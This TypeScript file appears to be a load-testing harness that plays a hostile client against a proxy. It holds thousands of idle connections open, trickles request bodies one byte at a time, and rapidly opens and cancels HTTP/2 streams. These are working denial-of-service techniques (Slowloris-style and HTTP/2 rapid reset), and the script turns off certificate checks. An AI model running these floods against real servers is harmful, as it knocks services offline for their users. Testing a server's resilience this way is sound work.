/**
 * A client of the proxy that takes all it can get, in a process of its own: `node hostile-client.ts MODE URL FROM HOST`, until
 * it is killed. FROM is the address that it comes from.
 *
 *   idle    connections that say nothing, kept open: 10,000 of them, and a new one for each that is cut
 *   bodies  requests whose bodies arrive a byte at a time
 *   resets  HTTP/2 streams that are reset as soon as they are open
 */
import { connect as connectHttp2, constants } from "node:http2";
import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { connect as connectTls } from "node:tls";

const [mode = "", url = "", from = "", host = ""] = process.argv.slice(2);
const { hostname, port } = new URL(url);

const IDLE_CONNECTIONS = 10_000;
/** Connections that are being opened: more would only wait in the kernel. */
const AT_ONCE = 50;
const SLOW_BODIES = 500;
const RESETS_AT_ONCE = 1000;
/** For what a connection that was cut does not tell. */
const MOST_WAIT_MS = 5000;

/** A connection that the other side may cut at any time. */
function open(): Promise<Socket> {
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: from }, () => resolve(socket));
    socket.on("error", () => resolve(socket)).resume();
  });
}

const ended = (socket: Socket) =>
  new Promise<void>((resolve) => {
    if (socket.destroyed) resolve();
    else socket.once("close", () => resolve()).once("end", () => socket.destroy());
  });

/** Keeps this many connections busy with `use`, and replaces those that end. */
async function keep(connections: number, use: (socket: Socket) => Promise<void>): Promise<void> {
  const one = async () => {
    for (;;) {
      const socket = await open();
      await use(socket);
      await delay(10); // a refused connection must not keep this process from opening others
    }
  };
  const all: Promise<void>[] = [];
  for (let opened = 0; opened < connections; opened += 1) {
    all.push(one());
    if (opened % AT_ONCE === 0) await delay(5);
  }
  await Promise.all(all);
}

async function slowBody(socket: Socket): Promise<void> {
  socket.write(`POST /layer HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 1000000\r\n\r\n`);
  const timer = setInterval(() => socket.write("x"), 1000);
  await ended(socket);
  clearInterval(timer);
}

async function reset(): Promise<void> {
  for (;;) {
    const secure = { host: hostname, port: Number(port), localAddress: from, servername: host, ALPNProtocols: ["h2"] };
    const session = connectHttp2(url, { createConnection: () => connectTls({ ...secure, rejectUnauthorized: false }) });
    session.on("error", () => {});
    const over = new Promise((resolve) => session.once("close", resolve));
    while (!session.destroyed && !session.closed) {
      const closed: Promise<unknown>[] = [];
      for (let streams = 0; streams < RESETS_AT_ONCE && !session.destroyed && !session.closed; streams += 1) {
        const stream = session.request({ ":path": "/", ":authority": host });
        stream.on("error", () => {});
        closed.push(new Promise((resolve) => stream.once("close", resolve)));
        stream.close(constants.NGHTTP2_CANCEL);
      }
      // Or this process runs out of memory before anyone else does. Streams of a session that was cut may not say so, nor
      // the session itself.
      await Promise.race([Promise.all(closed), over, delay(MOST_WAIT_MS)]);
      await delay(1);
    }
    await delay(10); // as for other connections
  }
}

if (mode === "idle") await keep(IDLE_CONNECTIONS, ended);
if (mode === "bodies") await keep(SLOW_BODIES, slowBody);
if (mode === "resets") await reset();
